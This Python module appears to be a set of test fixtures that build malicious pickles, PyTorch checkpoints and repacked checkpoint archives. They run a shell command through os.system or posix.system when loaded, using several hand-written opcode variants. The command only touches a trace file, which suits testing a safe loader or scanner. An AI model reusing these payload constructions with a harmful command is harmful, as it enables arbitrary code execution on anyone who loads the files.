"""Pickles, checkpoints and archives that would do harm, all made here; each that runs leaves a file behind."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from pathlib import Path
from typing import Any


class Running:
    """Its pickle runs a shell command that makes a file."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.trace}",)


def by_hand(trace: Path) -> dict[str, bytes]:
    """Return pickles that run a command, each by other instructions."""
    command = f"touch {trace}".encode()
    short = bytes([len(command)]) + command
    return {
        "reduce": b"cposix\nsystem\n(U" + short + b"tR.",
        "instance": b"(U" + short + b"iposix\nsystem\n.",
        "object": b"(cposix\nsystem\nU" + short + b"o.",
        "names on the stack": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c" + short + b"\x85R.",
        "names from the memo": b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x9400h\x00h\x01\x93\x8c" + short + b"\x85R.",
        "behind a list that is dropped": b"(lp0\n0cposix\nsystem\n(U" + short + b"tR.",
        "protocol 5": pickle.dumps(Running(trace), protocol=5),
        "protocol 0": pickle.dumps(Running(trace), protocol=0),
    }


def repacked(checkpoint: Path, target: Path, instructions: bytes, **options: Any) -> Path:
    """Write a copy of a checkpoint with other instructions in it."""
    with zipfile.ZipFile(checkpoint) as source, zipfile.ZipFile(target, "w", **options) as out:
        for member in source.infolist():
            is_pickle = member.filename.endswith("data.pkl")
            out.writestr(member.filename, instructions if is_pickle else source.read(member))
    return target


def spoilt(content: Any, trace: Path, *, old_format: bool = False) -> bytes:
    """Return a checkpoint that runs a command as soon as it is unpickled."""
    import torch

    stream = io.BytesIO()
    torch.save({**content, "note": Running(trace)}, stream, _use_new_zipfile_serialization=not old_format)
    return stream.getvalue()
